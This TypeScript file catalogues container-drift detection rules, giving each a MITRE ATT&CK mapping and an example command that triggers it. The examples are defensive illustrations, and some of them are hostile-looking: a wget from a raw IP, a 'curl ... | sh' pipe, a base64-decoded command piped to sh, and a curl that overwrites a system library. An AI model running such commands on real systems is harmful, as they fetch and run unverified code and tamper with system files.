// Rules of the theme drift: what stands beside `rules/20-drift.yaml`.
import type { RuleFacts } from '../rule-facts.ts';

export const driftRules: readonly RuleFacts[] = [
  {
    name: 'Program that is not of the image started',
    maturity: 'stable',
    techniques: ['T1204.003', 'T1105'],
    lesson: 'drift',
    firesOn: 'cp /bin/ls /usr/local/bin/x && /usr/local/bin/x in a container',
  },
  {
    name: 'Program started from a temporary folder',
    maturity: 'stable',
    techniques: ['T1204.003', 'T1105'],
    lesson: 'drift',
    firesOn: 'cp /bin/id /tmp/x && /tmp/x',
  },
  {
    name: 'Program started from a data folder',
    maturity: 'incubating',
    techniques: ['T1204.003', 'T1105'],
    lesson: 'drift',
    firesOn: 'start a file of a mounted volume',
  },
  {
    name: 'Program written into a system folder',
    maturity: 'stable',
    techniques: ['T1554', 'T1105'],
    lesson: 'drift',
    firesOn: 'cp tool /usr/local/bin in a running container',
  },
  {
    name: 'System library written',
    maturity: 'stable',
    techniques: ['T1574.006', 'T1105'],
    lesson: 'persistence',
    firesOn: 'curl -o /usr/lib/libselinux.so ...',
  },
  {
    name: 'File made executable in a writable place',
    maturity: 'incubating',
    techniques: ['T1222.002', 'T1105'],
    lesson: 'drift',
    firesOn: 'chmod +x /tmp/x',
  },
  {
    name: 'Executable made in a temporary folder',
    maturity: 'incubating',
    techniques: ['T1105'],
    lesson: 'drift',
    firesOn: 'install -m 755 tool /tmp/x',
  },
  {
    name: 'Download by address instead of name',
    maturity: 'incubating',
    techniques: ['T1105'],
    lesson: 'drift',
    firesOn: 'wget http://203.0.113.9/x.sh',
  },
  {
    name: 'Download piped into a shell',
    maturity: 'stable',
    techniques: ['T1059.004', 'T1105'],
    lesson: 'unverified-download',
    firesOn: 'sh -c "curl ... | sh"',
  },
  {
    name: 'Encoded command decoded and run',
    maturity: 'stable',
    techniques: ['T1140', 'T1059'],
    lesson: 'covered-tracks',
    firesOn: 'sh -c "echo aWQ= | base64 -d | sh"',
  },
];
